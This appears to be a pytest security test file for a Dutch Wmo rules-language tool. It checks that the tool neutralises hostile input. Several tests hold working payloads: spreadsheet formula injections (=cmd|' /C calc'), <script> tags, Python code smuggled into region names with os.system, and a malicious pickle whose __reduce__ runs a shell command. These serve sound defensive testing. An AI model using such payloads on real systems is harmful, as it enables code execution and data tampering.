"""Hostile text: spreadsheet formulas, Markdown that escapes its paragraph, rule files beyond every
bound, region names that are code, and a pickle planted where the parser cache used to be."""

import csv
import io
import json
import os
import pickle
import subprocess
import sys
import tomllib
from pathlib import Path

import pytest

from wmo_dsl.cli import main
from wmo_dsl.errors import RegelbestandFout
from wmo_dsl.language.parse import parse_text
from wmo_dsl.language.check import check
from wmo_dsl.present.templating import md_escape

REPO = Path(__file__).resolve().parents[2]
HEADER = 'regio r "R"\n  geldig vanaf 2022-01-01\n'


# ── CSV ───────────────────────────────────────────────────────────────────


def test_csv_output_neutralises_formulas_in_ids_and_question_keys(tmp_path, capsys):
    batch = tmp_path / "in.jsonl"
    batch.write_text("\n".join(json.dumps(c) for c in [
        {"id": '=HYPERLINK("http://x/?"&A1,"klik")', "antwoorden": {"resultaatgebieden": []}},
        {"id": "+1+1", "antwoorden": {"=cmd|' /C calc'!A0": True}},
        {"id": "@SUM(A1)", "antwoorden": {"resultaatgebieden": []}},
        {"id": "-12,5", "antwoorden": {"resultaatgebieden": []}},
    ]) + "\n", encoding="utf-8")
    uit = tmp_path / "uit.csv"
    main(["beoordeel", "--regio", "lekstroom", str(batch), "--uit", str(uit)])
    rows = list(csv.reader(io.StringIO(uit.read_text(encoding="utf-8"))))[1:]
    assert rows[0][1] == '\'=HYPERLINK("http://x/?"&A1,"klik")'
    assert rows[1][1] == "'+1+1" and rows[1][7].startswith("'=cmd")
    assert rows[2][1] == "'@SUM(A1)"
    assert rows[3][1] == "-12,5"  # a number stays a number
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell


# ── Markdown ──────────────────────────────────────────────────────────────


@pytest.mark.parametrize("text", ["x\n# Nep-kop\n- nep product", "<script>alert(1)</script>", "| a | b |", "```", "    code",
                                  "1. lijst", "- punt", "[klik](http://x)", "![b](http://x)", "**vet**"])
def test_escaped_markdown_is_one_line_of_plain_text(text):
    import re

    escaped = md_escape(text)
    assert "\n" not in escaped and not escaped.startswith(" ")
    assert not re.match(r"[-+=]|\d+[.)]", escaped)  # no list item, no setext underline
    # every character that could start markup carries its backslash
    assert not re.search(r"(?<!\\)[<>\[\]#|`*]", escaped.replace("\\\\", "")), escaped


def test_a_reason_with_newlines_stays_in_its_paragraph(tmp_path, capsys):
    casus = tmp_path / "casus.json"
    casus.write_text(json.dumps({
        "regio": "lekstroom", "peildatum": "2025-01-01",
        "antwoorden": {"resultaatgebieden": ["woonvaardigheden"], "type": "behouden", "verzwarende_omstandigheden": [],
                       "verandering_verwacht": False, "alleen_waakvlam": False},
        "afwijkingen": [{"onderwerp": "intensiteit", "waarde": "plus",
                         "reden": "Gezin\n\n# Geïndiceerd\n| 026A3 | Nep | x |\n- 026A3 nep\n<script>alert(1)</script>"}],
    }), encoding="utf-8")
    assert main(["beoordeel", str(casus), "--formaat", "markdown"]) == 0
    out = capsys.readouterr().out
    assert out.count("## Geïndiceerd") == 1
    assert "\n# Geïndiceerd" not in out and "\n| 026A3" not in out and "\n- 026A3" not in out and "<script>" not in out
    line = next(line for line in out.splitlines() if "ezin" in line)
    assert "\\# Geïndiceerd" in line and "\\<script\\>" in line


def test_labels_with_markup_pass_escaped_through_toon_and_vergelijk(tmp_path, capsys):
    source = (REPO / "regions" / "lekstroom" / "lekstroom.wmo").read_text(encoding="utf-8")
    hostile = source.replace('"IB 1-2 resultaatgebieden, behouden, gemiddelde intensiteit"', '"<script>alert(1)</script> # kop"')
    path = tmp_path / "vijandig.wmo"
    path.write_text(hostile, encoding="utf-8")
    assert main(["toon", str(path)]) == 0
    out = capsys.readouterr().out
    assert "<script>" not in out and "\\<script\\>alert(1)\\</script\\> \\# kop" in out
    population = tmp_path / "p.jsonl"
    population.write_text(json.dumps({"id": "<b>x</b>", "antwoorden": {
        "resultaatgebieden": ["woonvaardigheden"], "type": "behouden", "verzwarende_omstandigheden": [],
        "verandering_verwacht": False, "alleen_waakvlam": False}}) + "\n", encoding="utf-8")
    assert main(["vergelijk", "--regels", str(REPO / "regions" / "lekstroom" / "lekstroom.wmo"), "--regels", str(path),
                 str(population), "--formaat", "markdown", "--peildatum", "2025-01-01"]) == 0
    out = capsys.readouterr().out
    assert "<b>" not in out and "<script>" not in out


# ── Rule files beyond the bounds ──────────────────────────────────────────


@pytest.mark.parametrize("body, code", [
    ("vraag a: ja/nee\nx is " + "niet " * 600 + "a\n", "E104"),
    ("vraag a: ja/nee\nx is " + "[" * 600 + "a" + "]" * 600 + "\n", "E104"),
    ("vraag a: getal\nx is " + "-" * 600 + "a\n", "E104"),
    ("vraag a: datum\nx is 9999-12-31 + 1 dag\n", "E106"),
    ("vraag a: datum\nx is a - 999999 werkdagen\n", "E107"),
    ("vraag a: getal\nx is afronden(a, 99999999)\n", "E209"),
    ("vraag a: getal\nx is a + 12345678901234567890123456789\n", "E105"),
    ("vraag a: getal\n  maximaal 99999999999999999999\n", "E105"),
])
def test_a_rule_file_beyond_the_bounds_gets_a_finding_not_a_traceback(tmp_path, body, code):
    with pytest.raises(RegelbestandFout) as err:
        check(parse_text(HEADER + body, "r.wmo"))
    assert code in [b.code for b in err.value.bevindingen]
    path = tmp_path / "r.wmo"
    path.write_text(HEADER + body, encoding="utf-8")
    for args in (["check", str(path)], ["toon", str(path)]):
        proc = subprocess.run([sys.executable, "-m", "wmo_dsl.cli", *args], capture_output=True, text=True)
        assert proc.returncode == 2 and code in proc.stderr and "Traceback" not in proc.stderr


def test_a_condition_of_331_terms_is_wide_not_deep_and_runs_everywhere(tmp_path):
    from wmo_dsl.semantics.engine import Rules

    body = ("vraag a: ja/nee\nvraag b: ja/nee\nproduct p \"P\"\nregel r\n  als " + " en ".join(["a"] * 330) + " en b\n"
            "  dan product p\n")
    rules = Rules(check(parse_text(HEADER + body, "r.wmo")))
    assert rules.evaluate({"a": True, "b": True}).uitkomst == "indicatie"
    values, conclusies = rules.compiled({"a": True, "b": False})
    assert conclusies.producten == []


def test_all_value_findings_of_a_file_come_at_once():
    with pytest.raises(RegelbestandFout) as err:
        parse_text(HEADER + "x is 2022-02-30\ny is 9999-01-01\nz is 3,5 maanden\n", "r.wmo")
    assert [b.code for b in err.value.bevindingen] == ["E102", "E106", "E103"]


# ── wmo regio nieuw ───────────────────────────────────────────────────────


def test_a_region_name_that_is_code_stays_data(tmp_path, capsys):
    naam = "X'''; import os; os.system('touch /tmp/pwned'); '''"
    doel = tmp_path / "r"
    assert main(["regio", "nieuw", "rivier", "--naam", naam, "--map", str(doel)]) == 0
    init = (doel / "wmo_regio_rivier" / "__init__.py").read_text(encoding="utf-8")
    compiled = compile(init, "init", "exec")
    assert compiled.co_consts[0] == naam + ": regels voor Wmo-begeleiding, als plugin voor wmo-dsl."
    assert "import os" not in [line.strip() for line in init.splitlines()]
    test_source = (doel / "tests" / "test_regio.py").read_text(encoding="utf-8")
    assert compile(test_source, "t", "exec").co_consts[0].startswith("De voorbeeldcasussen van X'''")
    pyproject = tomllib.loads((doel / "pyproject.toml").read_text(encoding="utf-8"))
    assert naam in pyproject["project"]["description"]
    assert main(["check", str(doel / "wmo_regio_rivier" / "rivier.wmo")]) == 0


@pytest.mark.parametrize("naam", ['Regio "Rivier"', "Regio\nRivier", 'X"""; import os; os.system("ls"); """'])
def test_a_region_name_the_rule_language_cannot_hold_is_refused_and_leaves_nothing(tmp_path, capsys, naam):
    assert main(["regio", "nieuw", "rivier", "--naam", naam, "--map", str(tmp_path / "r")]) == 2
    assert "--naam" in capsys.readouterr().err
    assert list(tmp_path.iterdir()) == []


@pytest.mark.parametrize("region_id", ["abc\n", "a" * 300, "Rivier", "1abc", "rivier-land", ""])
def test_a_region_id_must_be_a_short_lowercase_name(tmp_path, capsys, region_id):
    assert main(["regio", "nieuw", region_id, "--map", str(tmp_path / "r")]) == 2
    assert "geen geldige regio-id" in capsys.readouterr().err
    assert list(tmp_path.iterdir()) == []


# ── The parser cache ──────────────────────────────────────────────────────


class _Planted:
    def __reduce__(self):
        return (os.system, (f"touch {os.environ.get('WMO_PWNED', '/nonexistent/pwned')}",))


def test_no_parser_cache_in_the_temp_folder_and_a_planted_pickle_is_never_loaded(tmp_path):
    temp, home = tmp_path / "tmp", tmp_path / "home"
    temp.mkdir()
    home.mkdir()
    marker = tmp_path / "pwned"
    # what an attacker on a shared /tmp would plant for Lark's default cache
    for name in (f".lark_cache_{os.environ.get('USER', 'root')}_x_3_11.tmp", "lark_cache.tmp"):
        (temp / name).write_bytes(pickle.dumps(_Planted()))
    env = {**os.environ, "TMPDIR": str(temp), "XDG_CACHE_HOME": str(home / "cache"), "WMO_PWNED": str(marker)}
    proc = subprocess.run([sys.executable, "-m", "wmo_dsl.cli", "check"], capture_output=True, text=True, env=env)
    assert proc.returncode == 0, proc.stderr
    assert sorted(p.name for p in temp.iterdir()) == sorted(n for n in os.listdir(temp))  # nothing new
    assert len(list(temp.iterdir())) == 2
    assert not marker.exists()
    cache = home / "cache" / "wmo-dsl"
    assert oct(cache.stat().st_mode & 0o777) == "0o700"


def test_a_cache_file_others_can_write_is_not_used(tmp_path, monkeypatch):
    from wmo_dsl.language import grammar as parse

    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path))
    first = parse._cache_path(parse.grammar_text())
    assert first is not None and Path(first).parent == tmp_path / "wmo-dsl"
    Path(first).write_bytes(pickle.dumps(_Planted()))
    Path(first).chmod(0o666)
    assert parse._cache_path(parse.grammar_text()) is None
